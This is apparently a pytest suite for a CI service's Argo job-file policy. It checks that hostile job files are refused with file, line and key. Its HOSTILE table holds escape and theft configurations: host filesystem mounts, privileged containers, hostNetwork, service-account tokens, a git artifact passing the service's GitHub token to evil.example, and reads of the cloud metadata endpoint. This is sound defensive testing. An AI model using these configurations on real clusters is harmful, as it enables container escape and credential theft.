"""Hostile job files through the one recipe the worker and ``forgeflow render`` use: a job
reaches only what its repository was granted, and raw Argo stays inside the fence. Every
refusal names the file, the line and the key."""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from service.cli.main import main
from service.events import Event, EventKind, PullRequest, Repository
from service.jobs.errors import JobFileError
from service.jobs.matcher import ChangedFiles
from service.runs.recipe import Planned, plan_event, workflow
from service.runs.trust import APPROVED_UNTRUSTED_CODE, TRUSTED, Trust
from service.settings import Settings, SettingsError, load_settings

OCTO = Repository("octo", "hello", "https://github.com/octo/hello.git", default_branch="main")
EVIL = Repository("evil", "hello", "https://github.com/evil/hello.git", default_branch="main")
POLICY = {
    "match": "octo/*",
    "namespace": "ci-octo",
    "secrets": [{"name": "deploy-token", "events": ["tag", "push"]}, "pypi"],
}


@dataclass
class Files:
    """The repository's files at every ref (a dict), as the recipe reads them."""

    files: dict[str, str]

    def read(self, path: str, ref: str) -> str | None:
        return self.files.get(path)

    def changed_files(self, event: Event) -> ChangedFiles:
        return lambda: None


def settings(**overrides: object) -> Settings:
    values: dict[str, object] = {"executor": "argo", "namespace": "forgeflow-runs", "repositories": [POLICY]}
    values.update(overrides)
    return load_settings(environ={}, overrides=values)


def event(kind: EventKind = EventKind.PUSH, repo: Repository = OCTO) -> Event:
    if kind is EventKind.PULL_REQUEST:
        fork = Repository("mallory", "hello", "https://github.com/mallory/hello.git")
        pr = PullRequest(3, author="mallory", target_branch="main", source_repo=fork, fork=True)
        return Event("github", kind, repo, "c" * 40, action="opened", pull_request=pr)
    if kind is EventKind.TAG:
        return Event("github", kind, repo, "b" * 40, ref="refs/tags/v1", tag="v1")
    return Event("github", kind, repo, "a" * 40, ref="refs/heads/main", branch="main")


def plan(text: str, ev: Event | None = None, trust: Trust = TRUSTED, **overrides: object) -> Planned:
    planned = plan_event(Files({".forgeflow.yaml": text}), settings(**overrides), ev or event(), trust)
    assert planned is not None
    return planned


def refusals(text: str, ev: Event | None = None, **overrides: object) -> list[str]:
    with pytest.raises(JobFileError) as caught:
        plan(text, ev, **overrides)
    return [str(p) for p in caught.value.problems]


def line_of(text: str, fragment: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), start=1) if fragment in line)


ON_ALL = "    on: [push, tag, pull_request]\n"


@pytest.mark.parametrize("secret", ["forgeflow", "someone-elses-token"])
def test_a_secret_never_granted_is_refused_at_its_line_saying_where_to_grant_it(secret: str):
    text = f"version: 1\njobs:\n  steal:\n    secrets: [pypi, {secret}]\n    steps: [env]\n"
    (problem,) = refusals(text)
    assert problem.startswith(
        f".forgeflow.yaml:4:21: jobs.steal.secrets[1]: the Secret '{secret}' is not granted"
    )
    assert "octo/hello" in problem and "repositories[0] (match: 'octo/*')" in problem


def test_a_repository_no_policy_matches_gets_no_secret_at_all():
    text = "version: 1\njobs:\n  steal:\n    secrets: [deploy-token]\n    steps: [env]\n"
    (problem,) = refusals(text, event(repo=EVIL))
    assert "'deploy-token' is not granted to evil/hello" in problem
    assert "none matches yet" in problem


def test_a_granted_secret_reaches_only_its_event_kinds():
    text = (
        "version: 1\njobs:\n  deploy:\n" + ON_ALL + "    secrets: [deploy-token]\n    steps: [make deploy]\n"
    )
    for kind in (EventKind.PUSH, EventKind.TAG):
        planned = plan(text, event(kind))
        assert planned.plan is not None and [t.secrets for t in planned.plan.tasks] == [("deploy-token",)]
        manifest = workflow(planned.plan, 1, "https://ci.example")
        (pod,) = [t for t in manifest["spec"]["templates"] if t["name"] == "deploy"]
        assert pod["container"]["envFrom"] == [{"secretRef": {"name": "deploy-token"}}]
        assert pod["volumes"] == [{"name": "secret-0", "secret": {"secretName": "deploy-token"}}]
    # a trusted pull request (not a fork's): granted, but not for pull requests
    inside = Event(
        "github", EventKind.PULL_REQUEST, OCTO, "d" * 40, action="opened", pull_request=PullRequest(4)
    )
    planned = plan(text, inside)
    assert planned.plan is not None and not planned.plan.tasks
    (refused,) = planned.plan.refused
    assert refused.reason == (
        "not run: the Secret 'deploy-token' is granted to octo/hello only for tag, push, not pull_request"
    )


def test_untrusted_runs_never_get_a_secret_even_a_granted_one():
    text = "version: 1\njobs:\n  deploy:\n" + ON_ALL + "    secrets: [pypi]\n    steps: [make deploy]\n"
    planned = plan(text, event(EventKind.PULL_REQUEST), APPROVED_UNTRUSTED_CODE)
    assert planned.plan is not None and not planned.plan.tasks
    assert planned.plan.refused[0].reason == "not run: untrusted runs never get secrets (pypi)"


def test_allow_secrets_false_still_turns_every_grant_off():
    text = "version: 1\njobs:\n  deploy:\n    secrets: [pypi]\n    steps: [x]\n"
    (problem,) = refusals(text, repositories=[{**POLICY, "allow_secrets": False}])
    assert "does not allow Kubernetes Secrets for octo/hello" in problem


RAW = """\
version: 1
jobs:
  raw:
    argo:
      entrypoint: main
      templates:
      - name: main
%s
"""
HOSTILE = {
    "resource": ("        resource: {action: create, manifest: 'kind: Pod'}", "resource"),
    "hostPath": (
        "        volumes: [{name: host, hostPath: {path: /}}]\n"
        "        container: {image: x, volumeMounts: [{name: host, mountPath: /host}]}",
        "hostPath",
    ),
    "pvc": (
        "        volumes: [{name: data, persistentVolumeClaim: {claimName: other}}]\n"
        "        container: {image: x, volumeMounts: [{name: data, mountPath: /data}]}",
        "volumes[0]",
    ),
    "projected token": (
        "        volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t}}]}}]\n"
        "        container: {image: x, volumeMounts: [{name: t, mountPath: /t}]}",
        "volumes[0]",
    ),
    "podSpecPatch": (
        "        podSpecPatch: '{\"hostNetwork\": true}'\n        container: {image: x}",
        "podSpecPatch",
    ),
    "hostNetwork": ("        container: {image: x}\n        hostNetwork: true", "hostNetwork"),
    "privileged": ("        container: {image: x, securityContext: {privileged: true}}", "privileged"),
    "allowPrivilegeEscalation": (
        "        container: {image: x, securityContext: {allowPrivilegeEscalation: true}}",
        "allowPrivilegeEscalation",
    ),
    "capabilities": (
        "        container: {image: x, securityContext: {capabilities: {add: [SYS_ADMIN]}}}",
        "capabilities",
    ),
    "root": ("        container: {image: x, securityContext: {runAsUser: 0}}", "runAsUser"),
    "serviceAccountName": (
        "        serviceAccountName: argo-server\n        container: {image: x}",
        "serviceAccountName",
    ),
    "automountServiceAccountToken": (
        "        automountServiceAccountToken: true\n        container: {image: x}",
        "automountServiceAccountToken",
    ),
    "sidecar": (
        "        container: {image: x}\n"
        "        sidecars: [{name: s, image: x, securityContext: {privileged: true}}]",
        "privileged",
    ),
    "memoize": (
        "        memoize: {key: k, maxAge: 1h, cache: {configMap: {name: workflow-controller-configmap}}}\n"
        "        container: {image: x}",
        "memoize",
    ),
    "artifact credentials": (
        "        inputs:\n          artifacts:\n            - name: loot\n              path: /tmp/l\n"
        "              git:\n                repo: https://evil.example/x.git\n"
        "                passwordSecret: {name: forgeflow, key: FORGEFLOW_GITHUB_TOKEN}\n"
        "        container: {image: x}",
        "passwordSecret",
    ),
    "hostPort": ("        container: {image: x, ports: [{containerPort: 80, hostPort: 80}]}", "hostPort"),
    "tolerations": (
        "        container: {image: x}\n"
        "        tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]",
        "tolerations",
    ),
    "nodeSelector": ("        container: {image: x}\n        nodeSelector: {gpu: a100}", "nodeSelector"),
    "priorityClassName": (
        "        container: {image: x}\n        priorityClassName: system-node-critical",
        "priorityClassName",
    ),
    "affinity": (
        "        container: {image: x}\n        affinity:\n          nodeAffinity:\n"
        "            requiredDuringSchedulingIgnoredDuringExecution:\n"
        "              nodeSelectorTerms: [{matchExpressions: [{key: k, operator: Exists}]}]",
        "affinity",
    ),
    "configMap env": (
        "        container:\n          image: x\n"
        "          env: [{name: C, valueFrom: {configMapKeyRef: {name: artifacts, key: default}}}]",
        "configMapKeyRef",
    ),
    "configMap envFrom": (
        "        container: {image: x, envFrom: [{configMapRef: {name: other-teams-config}}]}",
        "configMapRef",
    ),
    "configMap parameter": (
        "        inputs:\n          parameters:\n            - name: p\n"
        "              valueFrom: {configMapKeyRef: {name: workflow-controller-configmap, key: config}}\n"
        "        container: {image: x}",
        "configMapKeyRef",
    ),
    "hostPID": ("        container: {image: x}\n        hostPID: true", "hostPID"),
    "s3 with the node's credentials": (
        "        outputs:\n          artifacts:\n            - name: loot\n              path: /tmp/l\n"
        "              s3: {endpoint: s3.amazonaws.com, bucket: someone-elses, key: x, useSDKCreds: true}\n"
        "        container: {image: x}",
        "s3",
    ),
    "gcs with workload identity": (
        "        inputs:\n          artifacts:\n            - name: loot\n              path: /tmp/l\n"
        "              gcs: {bucket: private-bucket, key: secrets.tgz}\n"
        "        container: {image: x}",
        "gcs",
    ),
    "http artifact": (
        "        inputs:\n          artifacts:\n            - name: x\n              path: /tmp/x\n"
        "              http: {url: 'http://169.254.169.254/latest/meta-data/'}\n"
        "        container: {image: x}",
        "http",
    ),
    "another run's key": (
        "        inputs:\n          artifacts:\n            - name: x\n              path: /tmp/x\n"
        "              s3: {key: forgeflow-cache/octo/private/main/pip.tgz}\n"
        "        container: {image: x}",
        "s3",
    ),
    "a key that climbs out": (
        "        outputs:\n          artifacts:\n            - name: x\n              path: /tmp/x\n"
        "              s3: {key: '{{workflow.name}}/../other-run/x.tgz'}\n"
        "        container: {image: x}",
        "s3",
    ),
    "archiveLocation": (
        "        archiveLocation: {s3: {endpoint: evil.example, bucket: b, key: k}}\n"
        "        container: {image: x}",
        "s3",
    ),
}


def test_raw_argo_may_keep_artifacts_by_key_under_its_own_run():
    text = RAW % (
        "        inputs:\n          artifacts:\n            - {name: note, path: /tmp/n, raw: {data: hi}}\n"
        "        outputs:\n          artifacts:\n            - name: report\n              path: /tmp/r\n"
        "              s3: {key: '{{workflow.name}}/reports/r.tgz'}\n"
        "            - {name: plain, path: /tmp/p}\n"
        "        archiveLocation: {archiveLogs: true}\n"
        "        container: {image: x}"
    )
    planned = plan(text)
    assert planned.plan is not None and planned.plan.tasks
    elsewhere = text.replace("s3: {key: '{{workflow.name}}/reports/r.tgz'}", "s3: {key: k, bucket: b}")
    assert "argo_allow: [artifactLocations]" in refusals(elsewhere)[0]
    assert plan(elsewhere, repositories=[{**POLICY, "argo_allow": ["artifactLocations"]}]).plan is not None


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_raw_argo_outside_the_fence_is_refused_at_its_line_and_key(case: str):
    body, key = HOSTILE[case]
    text = RAW % body
    found = refusals(text)
    assert found, case
    line = line_of(text, key.split("[")[0] if key != "volumes[0]" else "volumes")
    assert any(p.startswith(f".forgeflow.yaml:{line}:") and key in p.split(": ", 2)[1] for p in found), found


def test_the_policy_can_allow_a_named_exception_for_one_repository():
    text = RAW % HOSTILE["resource"][0]
    assert "argo_allow: [resource]" in refusals(text)[0]  # the refusal says how to allow it
    allowed = {**POLICY, "argo_allow": ["resource"]}
    planned = plan(text, repositories=[allowed])
    assert planned.plan is not None and planned.plan.tasks
    assert refusals(text, event(repo=EVIL), repositories=[allowed, {"match": "*"}])  # only octo/*


TEMPLATE_JOB = """version: 1
jobs:
  release:
    on: [push]
    workflowTemplate: %s
"""


def test_cluster_workflow_templates_run_only_when_granted():
    cluster = TEMPLATE_JOB % "{name: cluster-admin-tools, cluster-scope: true}"
    found = refusals(cluster)
    assert len(found) == 1 and found[0].startswith(f".forgeflow.yaml:{line_of(cluster, 'workflowTemplate')}:")
    assert "ClusterWorkflowTemplate 'cluster-admin-tools' is not granted" in found[0]
    assert "cluster_workflow_templates: [cluster-admin-tools]" in found[0] and "repositories[0]" in found[0]
    granted = {**POLICY, "cluster_workflow_templates": ["cluster-admin-*"]}
    assert plan(cluster, repositories=[granted]).plan is not None
    # the operator's namespaced WorkflowTemplates run by default; a policy may narrow them
    namespaced = TEMPLATE_JOB % "release-pipeline"
    assert plan(namespaced).plan is not None
    narrowed = {**POLICY, "workflow_templates": ["build-*"]}
    found = refusals(namespaced, repositories=[narrowed])
    assert "WorkflowTemplate 'release-pipeline' is not granted" in found[0]


def test_a_templateref_inside_raw_argo_needs_the_same_grant():
    """A DAG task or a step of an ``argo:`` template can run a (Cluster)WorkflowTemplate too."""
    dag = RAW % (
        "        dag:\n          tasks:\n            - name: t\n"
        "              templateRef: {name: cluster-admin-tools, template: main, clusterScope: true}"
    )
    found = refusals(dag)
    assert len(found) == 1 and found[0].startswith(f".forgeflow.yaml:{line_of(dag, 'templateRef')}:")
    assert "templates[0].dag.tasks[0].templateRef" in found[0]
    assert "ClusterWorkflowTemplate 'cluster-admin-tools' is not granted" in found[0]
    granted = {**POLICY, "cluster_workflow_templates": ["cluster-admin-*"]}
    assert plan(dag, repositories=[granted]).plan is not None
    steps = RAW % (
        "        steps:\n          - - name: s\n"
        "              templateRef: {name: release-pipeline, template: main}"
    )
    assert plan(steps).plan is not None  # namespaced ones run by default
    found = refusals(steps, repositories=[{**POLICY, "workflow_templates": ["build-*"]}])
    assert "WorkflowTemplate 'release-pipeline' is not granted" in found[0] and "steps[0][0]" in found[0]


def test_raw_argo_inside_the_fence_gets_the_restricted_security_context():
    text = RAW % "        container: {image: x, securityContext: {capabilities: {add: [NET_BIND_SERVICE]}}}"
    planned = plan(text)
    assert planned.plan is not None
    manifest = workflow(planned.plan, 2, "https://ci.example")
    (raw,) = [t for t in manifest["spec"]["templates"] if t["name"] == "raw-main"]
    assert raw["container"]["securityContext"] == {
        "allowPrivilegeEscalation": False,
        "capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]},
    }
    assert manifest["spec"]["securityContext"] == {
        "runAsNonRoot": True,
        "runAsUser": 1000,
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    relaxed = plan(text, repositories=[{**POLICY, "pod_security": "baseline"}])
    assert relaxed.plan is not None
    spec = workflow(relaxed.plan, 2, "https://ci.example")["spec"]
    assert spec["securityContext"] == {"seccompProfile": {"type": "RuntimeDefault"}}


def test_a_private_repository_checks_out_with_the_runs_own_secret_never_the_token():
    private = Repository("octo", "secret", "https://github.com/octo/secret.git", private=True)
    planned = plan("version: 1\njobs:\n  build:\n    steps: [make]\n", event(repo=private))
    assert planned.plan is not None
    manifest = workflow(planned.plan, 9, "https://ci.example")
    name = manifest["metadata"]["name"]
    (pod,) = [t for t in manifest["spec"]["templates"] if t["name"] == "build"]
    git = pod["inputs"]["artifacts"][0]["git"]
    assert git["usernameSecret"] == {"name": f"{name}-checkout", "key": "username"}
    assert git["passwordSecret"] == {"name": f"{name}-checkout", "key": "password"}
    public = plan("version: 1\njobs:\n  build:\n    steps: [make]\n")
    assert public.plan is not None and not public.plan.checkout_secret


@pytest.mark.parametrize("name", ["forgeflow-12-abcdef0-checkout", "Not_A_Name"])
def test_the_config_cannot_grant_a_runs_own_checkout_secret_or_a_bad_name(name: str):
    with pytest.raises(SettingsError):
        settings(repositories=[{"match": "*", "secrets": [name]}])


def test_workflows_never_run_in_the_services_own_namespace_unless_accepted():
    with pytest.raises(SettingsError) as caught:
        settings(service_namespace="ci-octo")
    assert "repositories[0].namespace is 'ci-octo'" in str(caught.value)
    assert settings(service_namespace="ci-octo", allow_workflows_in_service_namespace=True)
    assert settings(service_namespace="forgeflow")  # neither forgeflow-runs nor ci-octo
    assert settings(service_namespace="ci-octo", executor="local")  # no Kubernetes at all


def test_validate_with_the_service_config_warns_what_the_policy_would_refuse(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    config = tmp_path / "forgeflow.yaml"
    config.write_text(yaml.safe_dump({"repositories": [POLICY]}))
    for key in [k for k in os.environ if k.startswith("FORGEFLOW_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("FORGEFLOW_CONFIG", str(config))
    job_file = tmp_path / ".forgeflow.yaml"
    job_file.write_text(
        "version: 1\njobs:\n  deploy:\n    on: [pull_request]\n    secrets: [deploy-token, forgeflow]\n"
        "    steps: [x]\n" + (RAW % HOSTILE["privileged"][0]).split("jobs:\n", 1)[1]
    )
    assert main(["validate", str(job_file), "--repository", "octo/hello"]) == 0
    warnings = capsys.readouterr().err.splitlines()
    assert warnings == [
        f"warning: {job_file}:5:15: jobs.deploy.secrets[0]: the Secret 'deploy-token' is granted to "
        "octo/hello only for tag, push; this job runs on pull_request",
        f"warning: {job_file}:5:29: jobs.deploy.secrets[1]: the Secret 'forgeflow' is not granted to "
        "octo/hello; grant it under `secrets` of repositories[0] (match: 'octo/*') in the service config",
        f"warning: {job_file}:12:49: jobs.raw.argo.templates[0].container.securityContext.privileged: "
        "privileged containers own the node; job files may not do this (a repository's policy can allow "
        "it with argo_allow: [privileged])",
    ]


GOLDEN = Path(__file__).resolve().parents[1] / "golden" / "tenancy-private.yaml"
PRIVATE_JOB_FILE = """\
version: 1
jobs:
  build:
    on: [tag]
    steps: [make]
  publish:
    on: [tag]
    needs: [build]
    secrets: [deploy-token, pypi]
    steps: [{name: upload, run: make publish}]
  smoke:
    on: [tag]
    argo:
      entrypoint: main
      templates:
      - name: main
        container:
          image: quay.io/example/tools:1
          env: [{name: TOKEN, valueFrom: {secretKeyRef: {name: pypi, key: token}}}]
        sidecars: [{name: db, image: postgres:16}]
"""


def test_golden_private_repository_with_granted_secrets():
    """A private repository's run: the checkout names the run's own Secret, granted Secrets are
    in env and mounted for the masking driver, every container restricted."""
    private = Repository("octo", "secret", "https://github.com/octo/secret.git", private=True)
    planned = plan(PRIVATE_JOB_FILE, event(EventKind.TAG, private))
    assert planned.plan is not None
    manifest = workflow(planned.plan, 42, "https://ci.example")
    text = yaml.safe_dump(manifest, sort_keys=False, width=1000)
    if os.environ.get("FORGEFLOW_UPDATE_GOLDEN") == "1":
        GOLDEN.write_text(text, encoding="utf-8")
    assert GOLDEN.exists(), f"{GOLDEN} is missing: run with FORGEFLOW_UPDATE_GOLDEN=1 once and review it"
    assert yaml.safe_load(GOLDEN.read_text(encoding="utf-8")) == manifest
